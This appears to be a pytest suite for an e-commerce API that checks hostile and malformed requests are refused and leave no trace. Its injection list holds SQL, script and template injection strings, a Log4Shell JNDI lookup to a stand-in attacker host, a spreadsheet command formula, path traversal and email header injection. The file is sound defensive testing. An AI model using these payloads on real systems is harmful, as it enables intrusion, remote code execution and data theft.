"""The catalogue of bad input: each row is an input and its exact answer; nothing is stored, echoed or half done.

A case is named after its kind: G every route, C placing and paying, R the order's own routes, L looking it up, P lists.
What providers send is in test_bad_webhooks.py.
"""

import json
import uuid
from decimal import Decimal

import pytest
from django.conf import settings as django_settings

from bitloot.tests.bad_input import GETS, JSON, MALFORMED, POSTS, WEBHOOKS, WITH_BODY, World, assert_refused, counts
from orders.access import make_token
from orders.models import Order
from orders.tests.factories import make_order, make_product
from payments.models import Coin
from storage.tests.factories import make_key

pytestmark = [pytest.mark.django_db, pytest.mark.once]


@pytest.fixture
def world():
    return World()


def spread(routes, cases):
    """Pair every case with the first route, and the first case with every other: what all share is tried once."""
    (first, *others), (usual, *_) = routes, cases
    return [*((first, case) for case in cases), *((route, usual) for route in others)]


# G: every route


@pytest.mark.parametrize(("route", "case"), spread(WITH_BODY, MALFORMED))
def test_a_body_that_is_no_strict_json_object(world, route, case):
    before = counts()
    assert_refused(world.send(route, MALFORMED[case]), 400, "parse_error", before)


TOO_LARGE = {
    "G14 200 000 brackets": b"[" * 200_000,
    "G21 1 MiB text": b'{"email":"' + b"a" * 2**20 + b'"}',
    "G22 one byte over": b'{"email":"' + b"a" * (64 * 1024 - 11) + b'"}',
    "5 MiB": b" " * (5 * 2**20),
}


@pytest.mark.parametrize(("route", "case"), spread([*POSTS, *WEBHOOKS], TOO_LARGE))
def test_a_body_that_is_too_large(world, route, case):
    before = counts()
    assert_refused(world.send(route, TOO_LARGE[case]), 413, "too_large", before)


def test_a_body_of_64_kib_is_read(world):
    body = b'{"email":"' + b"a" * (64 * 1024 - 12) + b'"}'
    assert_refused(world.send("order", body), 422, "invalid", counts())


CONTENT = {
    "G27 none": ("", {}),
    "G27 text": ("text/plain", {}),
    "G28 form": ("application/x-www-form-urlencoded", {}),
    "G28 multipart": ("multipart/form-data; boundary=x", {}),
    "G28 XML": ("application/xml", {}),
    "G29 utf-16": ("application/json; charset=utf-16", {}),
    "G29 quoted": ('application/json; CHARSET="latin-1"', {}),
    "G26 gzip": (JSON, {"Content-Encoding": "gzip"}),
    "G26 br": (JSON, {"Content-Encoding": "br"}),
    "garbage": ("CANARY", {}),
    "a star": ("*/*; q=CANARY", {}),
}


@pytest.mark.parametrize(("route", "case"), spread(WITH_BODY, CONTENT))
def test_a_body_of_another_kind(world, route, case):
    content_type, headers = CONTENT[case]
    before = counts()
    # The wildcard says JSON too, as far as HTTP goes: its body is then read as JSON.
    if case == "a star":
        assert world.send(route, b"CANARY", content_type=content_type).status_code in (400, 415)
        assert counts() == before
        return
    answer = world.send(route, content_type=content_type, headers=headers)
    assert_refused(answer, 415, "unsupported_media_type", before)


@pytest.mark.parametrize("length", ["x", "-1", "1.5", "٣", "1e3", "0x10"])
@pytest.mark.parametrize("route", ["order", "ipn"])
def test_a_length_that_is_no_number(world, route, length):
    before = counts()
    assert_refused(world.send(route, CONTENT_LENGTH=length), 400, "bad_request", before)


@pytest.mark.parametrize(("route", "method"), spread([*POSTS, *WEBHOOKS], ["PUT", "DELETE", "FOO"]))
def test_a_method_that_the_route_does_not_take(world, route, method):
    before = counts()
    answer = world.send(route, method=method)
    assert_refused(answer, 405, "method_not_allowed", before)
    assert "POST" in answer["Allow"]


@pytest.mark.parametrize(("route", "method"), spread(GETS, ["POST", "DELETE", "FOO"]))
def test_reading_routes_take_no_other_method(world, route, method):
    before = counts()
    assert_refused(world.send(route, {}, method=method), 405, "method_not_allowed", before)


@pytest.mark.parametrize(("route", "method"), spread(GETS, ["GET", "HEAD", "OPTIONS"]))
def test_reading_changes_nothing(world, route, method):
    make_key(world.paid.items.get())
    before, rows = counts(), list(Order.objects.order_by("pk").values())
    for headers in ({}, {"Sec-Purpose": "prefetch"}, {"Purpose": "preview"}, {"User-Agent": "Slackbot"}):
        assert world.send(route, method=method, headers=headers).status_code == 200
    assert [counts(), list(Order.objects.order_by("pk").values())] == [before, rows]


CROSS_SITE = [
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": "CANARY"},
    {"Origin": "http://["},
    {"Origin": "http://testserver.evil.example", "Host": "testserver"},
    {"Sec-Purpose": "prefetch;prerender"},
    {"Purpose": "preview"},
]


@pytest.mark.parametrize(("route", "headers"), spread(POSTS, CROSS_SITE), ids=str)
def test_another_sites_page_may_not_send(world, route, headers):
    before = counts()
    assert_refused(world.send(route, headers=headers), 403, "cross_site", before)


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "same-origin"},
        {"Sec-Fetch-Site": "none"},
        {"Origin": "SITE_URL"},
        {"Origin": "http://testserver", "Host": "testserver"},
        {"Accept": "application/xml"},
        {"Accept": "text/html;q=0.9, */*;q=0"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Forwarded-Host": "evil.example"},
        {"X-Original-URL": "/admin/"},
        {"X-Forwarded-For": "51.89.194.21"},
        {"Cookie": "sessionid=garbage; csrftoken=garbage"},
        {"Cookie": "sessionid=\xff"},
        {"Content-Encoding": "identity"},
        {"Expect": "100-continue"},
        {"Range": "bytes=0-1"},
        {"If-None-Match": '"garbage"'},
    ],
    ids=str,
)
def test_headers_that_mean_nothing_here_change_nothing(world, headers):
    headers = {name: value.replace("SITE_URL", django_settings.SITE_URL) for name, value in headers.items()}
    answer = world.send("order", headers=headers)
    assert [answer.status_code, answer["Content-Type"]] == [201, JSON]
    assert b"evil.example" not in answer.content
    assert world.send("products", method="GET", headers=headers).status_code == 200


@pytest.mark.parametrize("route", ["order", "products"])
@pytest.mark.parametrize("host", ["evil.example", "a b"])
def test_another_host_is_refused(world, route, host):
    method = "GET" if route in GETS else "POST"
    before = counts()
    assert_refused(
        world.send(route, method=method, headers={"Host": host}),
        400,
        "bad_request",
        before,
    )


def test_a_query_string_on_a_post_is_never_read(world):
    other = make_order()
    answer = world.send(
        "pay",
        {"order_id": str(other.id), "pay_currency": "btc"},
        path=f"/api/payments/create?order_id={world.order.id}",
    )
    assert answer.status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        *("//api/orders", "/api//orders", "/api/orders/", "/api/orders;x", "/api/%2e%2e/admin/", "/api/orders%00"),
        *(
            "/api/",
            "/api/nothing",
            "/api/payments/create/",
            "/api/fulfillment//reveal",
            "/API/orders",
            "/api/webhooks/",
        ),
    ],
)
def test_a_path_that_is_none_of_ours(world, path):
    before = counts()
    answer = world.client.generic("POST", path, b"{}", JSON)
    # One of them reads as an order of that name, which takes no POST.
    assert answer.status_code in (404, 405)
    assert counts() == before


INJECTIONS = [
    *("' OR 1=1--", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0"),
    *("\x1b[31mred\x1b[0m", "\r\nFAKE LOG", "\u202egnp.exe", "../../etc/passwd", "%00", "a" * 5000, "🎮", "__proto__"),
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_is_never_more_than_text(world, text):
    before = counts()
    for answer in (
        world.send("order", world.order_body(email=text)),
        world.send("order", world.order_body(items=[{"product": text, "quantity": 1}])),
        world.send("order", world.order_body(items=[{"product": world.product.slug, "quantity": text}])),
        world.send("order", {text: 1}),
        world.send("pay", {"order_id": str(world.order.id), "pay_currency": text}),
        world.send("deliver", {"codes": [{"item": text, "serial": "S"}], "reason": "why"}),
    ):
        assert answer.status_code == 422
        assert text not in answer.json()["detail"] + json.dumps(answer.json().get("errors", ""))
    assert world.send("pay", {"order_id": text, "pay_currency": "btc"}).status_code in (404, 422)
    assert world.send("lookup", {"order_id": text, "email": text}).status_code in (202, 422)
    assert counts() == before


# C: placing an order

ITEM = {"product": "PRODUCT", "quantity": 1}


def quantity(value):
    return {"items": [{"product": "PRODUCT", "quantity": value}]}


ORDERS = {
    "C01 no lines": {"items": []},
    "C01 too many lines": {"items": [ITEM] * 41},
    "C01 no list": {"items": {"product": "PRODUCT"}},
    "C01 null": {"items": None},
    "C01 text": {"items": "PRODUCT"},
    "C01 a list of texts": {"items": ["PRODUCT"]},
    "C01 a list of lists": {"items": [[ITEM]]},
    **{f"C02 {value!r}": quantity(value) for value in (0, -1, 1.5, "1", True, False, None, 10**9, [], {}, 10**30)},
    "C02 none": {"items": [{"product": "PRODUCT"}]},
    "C03 ten": quantity(10),
    "C03 ten in two lines": {"items": [{**ITEM, "quantity": 5}] * 2},
    "C05 unknown": {"items": [{**ITEM, "product": "CANARY"}]},
    "C05 unknown id": {"items": [{**ITEM, "product": str(uuid.uuid4())}]},
    "C05 empty": {"items": [{**ITEM, "product": ""}]},
    "C05 long": {"items": [{**ITEM, "product": "C" * 81}]},
    **{f"C05 {value!r}": {"items": [{**ITEM, "product": value}]} for value in (None, 1, True, [], {}, 1.5)},
    **{f"C07 {name}": {name: "CANARY"} for name in ("price", "total", "discount", "currency", "coupon", "quote_id")},
    **{f"C08 {name}": {name: "CANARY"} for name in ("status", "is_paid", "user", "id", "created_at", "access_token")},
    "C07 in a line": {"items": [{**ITEM, "unit_price": "0.01"}]},
    "C11 currency": {"currency": "__proto__"},
    "C14 none": {"email": ""},
    "C14 null": {"email": None},
    "C14 number": {"email": 1},
    "C14 list": {"email": ["a@b.example"]},
    "C14 half": {"email": "a@"},
    "C14 long": {"email": "a" * 250 + "@b.example"},
    "C14 two": {"email": "a@b.example,c@d.example"},
    "C14 named": {"email": '"x" <a@b.example>'},
    "C15 header": {"email": "a@b.example\nBcc: CANARY@y.example"},
    "C33 success_url": {"success_url": "https://evil.example"},
    "C33 ipn_callback_url": {"ipn_callback_url": "https://evil.example"},
    "C35 notes": {"notes": "\u202e" + "Z̷" * 100},
}


@pytest.mark.parametrize("case", ORDERS)
def test_an_order_that_cannot_be_placed(world, case):
    text = json.dumps({**world.order_body(), **ORDERS[case]}).replace("PRODUCT", world.product.slug)
    before = counts()
    assert_refused(world.send("order", text.encode()), 422, "invalid", before)


@pytest.mark.parametrize("missing", ["email", "items"])
def test_an_order_without_a_member(world, missing):
    body = {name: value for name, value in world.order_body().items() if name != missing}
    answer = world.send("order", body)
    assert_refused(answer, 422, "invalid", counts())
    assert list(answer.json()["errors"]) == [missing]


@pytest.mark.parametrize(
    "key", ["", "x" * 15, "x" * 256, "é" * 20, "with spaces in between", "x" * 20 + "\x7f", "\tx" * 10], ids=ascii
)
def test_c19_a_key_that_is_none(world, key):
    before = counts()
    assert_refused(world.send("order", headers={"Idempotency-Key": key}), 400, "bad_idempotency_key", before)


def test_c21_a_key_with_another_body(world):
    headers = {"Idempotency-Key": "x" * 16}
    assert world.send("order", headers=headers).status_code == 201
    before = counts()
    answer = world.send("order", world.order_body(email="bob@example.org"), headers=headers)
    assert_refused(answer, 422, "idempotency_key_reused", before)


def test_c36_prices_add_up_exactly(world):
    answer = world.send(
        "order",
        world.order_body(
            items=[
                {"product": make_product(price=Decimal("0.10")).slug, "quantity": 3},
                {"product": make_product(price=Decimal("19.99")).slug, "quantity": 1},
            ]
        ),
    )
    assert answer.json()["total"] == "20.29"


PAYMENTS = {
    "C12 unknown coin": ({"pay_currency": "CANARY"}, 422, "unknown_coin"),
    "C12 empty": ({"pay_currency": ""}, 422, "invalid"),
    "C12 long": ({"pay_currency": "b" * 33}, 422, "invalid"),
    **{f"C12 {value!r}": ({"pay_currency": value}, 422, "invalid") for value in (None, 1, True, [], {})},
    "C33 price": ({"price_amount": "0.01"}, 422, "invalid"),
    "C33 callback": ({"ipn_callback_url": "https://evil.example"}, 422, "invalid"),
    **{
        f"R15 order {value!r}": ({"order_id": value}, 422, "invalid") for value in (None, 1, True, [], {}, "", "1" * 37)
    },
    "R15 sequential": ({"order_id": "1"}, 404, "not_found"),
    "R15 another": ({"order_id": str(uuid.UUID(int=7))}, 404, "not_found"),
}


@pytest.mark.parametrize("case", PAYMENTS)
def test_a_payment_that_cannot_be_started(world, case):
    changes, status, code = PAYMENTS[case]
    before = counts()
    answer = world.send("pay", {"order_id": str(world.order.id), "pay_currency": "btc", **changes})
    assert_refused(answer, status, code, before)


def test_c12_below_the_minimum_names_the_minimum(world):
    Coin.objects.update(minimum=Decimal("25.00"))
    answer = world.send("pay")
    assert_refused(answer, 422, "below_minimum", counts())
    assert "25.00 EUR" in answer.json()["detail"]


@pytest.mark.parametrize("status", sorted(set(Order.Status.values) - {"pending", "underpaid"}))
def test_an_order_that_nobody_can_pay_any_more(world, status):
    Order.objects.filter(pk=world.order.pk).update(status=status)
    before = counts()
    assert_refused(world.send("pay"), 409, "not_payable", before)


# R: the order's own routes

OWN = ["read", "status", "link", "reveal", "pay"]


def wrong_tokens(world):
    return {
        "R28 none": "",
        "R06 short": f"Bearer {world.token[:-1]}",
        "R06 long": f"Bearer {world.token}A",
        "R06 padded": f"Bearer {world.token}=",
        "R06 not base64url": f"Bearer {world.token[:-3]}+/!",
        "R06 non-ASCII": "Bearer \xe9\xff",
        "R06 emoji": "Bearer \xf0\x9f\x8e\xae",
        "R06 huge": "Bearer " + "a" * 8000,
        "R07 another order's": f"Bearer {make_token(make_order(), 'api')}",
        "R37 twice": f"Bearer {world.token}, Bearer {world.token}",
        "staff": world.staff,
        "basic": "Basic YTpi",
        "no scheme": world.token,
        "another mark": f"Bearer m.1.{world.token[2:]}",
    }


@pytest.mark.parametrize("route", OWN)
def test_without_the_orders_token_nothing_can_be_learned(world, route):
    own_path, _, body = world.routes[route]
    gone = str(uuid.uuid4())
    path = own_path.replace(str(world.order.id), gone).replace(str(world.paid.id), gone)
    absent = {**body, "order_id": gone} if body else None
    method = "POST" if route in ("reveal", "pay") else "GET"
    before, seen = counts(), set()
    for case, authorization in wrong_tokens(world).items():
        if case == "R07 another order's":
            before = counts()
        for answer in (
            world.send(route, method=method, headers={"Authorization": authorization}),
            world.send(route, absent, method=method, path=path, headers={"Authorization": authorization}),
        ):
            problem = answer.json()
            assert problem.pop("request_id")
            headers = {name: value for name, value in answer.items() if name != "X-Request-Id"}
            seen.add((answer.status_code, json.dumps(problem), json.dumps(headers)))
    assert len(seen) == 1, seen
    assert next(iter(seen))[0] == 404
    assert counts() == before


def spellings(order_id):
    return {
        "R15 upper case": str(order_id).upper(),
        "R15 braces": f"{{{order_id}}}",
        "R15 urn": f"urn:uuid:{order_id}",
        "R15 hex": order_id.hex,
        "R15 2^63": str(2**63),
        "R15 negative": "-1",
        "R15 sequential": "1",
        "P07 dots": "..",
        "P07 percent": "%2e%2e",
        "P07 NUL": "%00",
        "long": "1" * 3000,
        "star": "*",
        "surrogate": "%ED%A0%80",
        "no UTF-8": "%FF",
        "fullwidth": "１",
    }


@pytest.mark.parametrize(("route", "case"), spread(["read", "status", "link", "reveal"], spellings(uuid.uuid4())))
def test_an_id_that_is_spelled_otherwise(world, route, case):
    order = world.paid if route in ("link", "reveal") else world.order
    path = world.routes[route][0].replace(str(order.id), spellings(order.id)[case])
    if case == "R15 upper case" and path == world.routes[route][0]:
        pytest.fail("an id without a letter: no case to change")
    before = counts()
    assert_refused(
        world.send(route, method="POST" if route == "reveal" else "GET", path=path), 404, "not_found", before
    )


def test_r25_a_token_in_the_query_is_ignored(world):
    answer = world.client.get(f"/api/orders/{world.order.id}?t={world.token}&token={world.token}")
    assert answer.status_code == 404


def test_r09_an_older_mailed_link_is_gone(world):
    older = make_token(world.order, "mail")
    Order.objects.update(link_generation=2)
    answer = world.send("read", method="GET", headers={"Authorization": f"Bearer {older}"})
    assert_refused(answer, 410, "link_replaced", counts())


def test_r10_nothing_is_revealed_before_it_is_there(world):
    before = counts()
    assert_refused(world.send("reveal"), 404, "not_stored_yet", before)
    assert_refused(world.send("link", method="GET"), 404, "not_stored_yet", before)


@pytest.mark.parametrize("status", ["refund_due", "refunded"])
def test_r29_the_keys_of_a_refunded_order_are_gone(world, status):
    make_key(world.paid.items.get())
    Order.objects.filter(pk=world.paid.pk).update(status=status)
    before = counts()
    assert_refused(world.send("reveal"), 410, "gone", before)
    assert_refused(world.send("link", method="GET"), 410, "gone", before)


def test_r30_the_token_decides_and_no_cookie(world):
    world.client.cookies["sessionid"] = "x"
    make_key(world.paid.items.get())
    assert world.send("reveal").status_code == 200
    assert world.send("reveal", headers={"Authorization": f"Bearer {world.token}"}).status_code == 404


@pytest.mark.parametrize("route", [*POSTS, *GETS])
def test_r21_only_the_product_list_may_be_kept_by_a_cache(world, route):
    answer = world.send(route, method="GET" if route in GETS else "POST")
    assert answer["Cache-Control"] == ("public, max-age=5" if route == "products" else "no-store")
    assert answer["Referrer-Policy"] == "same-origin"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "frame-ancestors 'none'" in answer["Content-Security-Policy"]
    assert ("ETag" in answer) == (route in ("read", "products"))


DELIVERIES = {
    "no list": ({"codes": "CANARY", "reason": "r"}, "invalid"),
    "a text in the list": ({"codes": ["CANARY"], "reason": "r"}, "invalid"),
    "no reason": ({"codes": [{"item": "ITEM", "serial": "S"}]}, "invalid"),
    "unknown member": ({"codes": [], "price": 1}, "invalid"),
    "serial empty": ({"codes": [{"item": "ITEM", "serial": ""}], "reason": "r"}, "invalid"),
    "serial a number": ({"codes": [{"item": "ITEM", "serial": 1}], "reason": "r"}, "invalid"),
    "reason too long": ({"codes": [{"item": "ITEM", "serial": "S"}], "reason": "r" * 201}, "invalid"),
    "foreign item": ({"codes": [{"item": str(uuid.uuid4()), "serial": "S"}], "reason": "r"}, "codes_refused"),
    "no item": ({"codes": [{"item": "1", "serial": "S"}], "reason": "r"}, "codes_refused"),
    "the same code twice": ({"codes": [{"item": "ITEM", "serial": "CANARY"}] * 2, "reason": "r"}, "codes_refused"),
    "too many codes": (
        {"codes": [{"item": "ITEM", "serial": "S"}, {"item": "ITEM", "serial": "T"}], "reason": "r"},
        "codes_refused",
    ),
    "91 codes": ({"codes": [{"item": "ITEM", "serial": "S"}] * 91, "reason": "r"}, "invalid"),
}


@pytest.mark.parametrize("case", DELIVERIES)
def test_codes_that_cannot_be_delivered(world, case):
    body, code = DELIVERIES[case]
    text = json.dumps(body).replace("ITEM", str(world.paid.items.get().id))
    before = counts()
    assert_refused(world.send("deliver", text.encode()), 422, code, before)


# L: looking up an order

LOOKUPS = {
    "L04 nothing known": ({"order_id": str(uuid.UUID(int=7))}, 202),
    "L03 not together": ({"email": "bob@example.org"}, 202),
    "L07 header": ({"email": "ada@example.org\nBcc: x@y.example"}, 202),
    "L08 another address": ({"to": "evil@example.org"}, 422),
    "L14 star": ({"order_id": "*"}, 202),
    "L14 regex": ({"order_id": ".*"}, 202),
    "L14 list": ({"order_id": ["*"]}, 422),
    "L15 long address": ({"email": "a" * 255}, 422),
    "L15 long id": ({"order_id": "1" * 37}, 422),
    "L16 homoglyph": ({"email": "аda@example.org"}, 202),
    "L17 number": ({"order_id": 17}, 422),
    "no address": ({"email": ""}, 422),
    "null": ({"email": None}, 422),
}


@pytest.mark.parametrize("case", LOOKUPS)
def test_a_lookup_that_finds_nothing(world, case):
    changes, status = LOOKUPS[case]
    before = counts()
    answer = world.send("lookup", {"order_id": str(world.order.id), "email": "ada@example.org", **changes})
    if status == 422:
        assert_refused(answer, 422, "invalid", before)
    else:
        assert [answer.status_code, counts()] == [202, before]
        assert answer.json() == {"message": "If this is your order, a fresh link is on its way to its address."}


def test_l06_lookups_are_throttled(world, settings):
    settings.THROTTLE_SCALE = 0.1
    answers = [world.send("lookup", {"order_id": str(uuid.uuid4()), "email": "a@b.example"}) for _ in range(3)]
    assert [answer.status_code for answer in answers] == [202, 202, 429]
    assert int(answers[2]["Retry-After"]) > 0


# P: lists

LISTS = {
    "P01 offset -1": ("offset=-1", 422),
    "P01 offset abc": ("offset=abc", 422),
    "P01 offset 1e9": ("offset=1e9", 422),
    "P01 offset long": ("offset=" + "9" * 40, 422),
    "P01 offset arabic": ("offset=%D9%A3", 422),
    "P02 limit 0": ("limit=0", 422),
    "P02 limit -1": ("limit=-1", 422),
    "P02 limit NUL": ("limit=%00", 422),
    "P03 ordering": ("ordering=password", 422),
    "P03 order by": ("ordering=a%0bb", 422),
    "P05 unknown": ("CANARY=1", 422),
    "P06 range": ("min_price=NaN", 422),
    "P09 format": ("format=api", 422),
    "P10 fields": ("fields=*,user.password", 422),
    "P10 expand": ("expand=CANARY", 422),
    "G41 twice": ("limit=1&limit=2", 400),
}


@pytest.mark.parametrize("case", LISTS)
def test_a_list_that_cannot_be_made(world, case):
    query, status = LISTS[case]
    before = counts()
    answer = world.send("products", method="GET", path=f"/api/products?{query}")
    assert_refused(answer, status, "invalid" if status == 422 else "parse_error", before)


@pytest.mark.parametrize(("query", "rows"), [("limit=1000000", 1), ("offset=999999999", 0), ("limit=1&offset=0", 1)])
def test_p02_limits_are_clamped(world, query, rows):
    answer = world.send("products", method="GET", path=f"/api/products?{query}")
    assert [answer.status_code, len(answer.json()["results"])] == [200, rows]
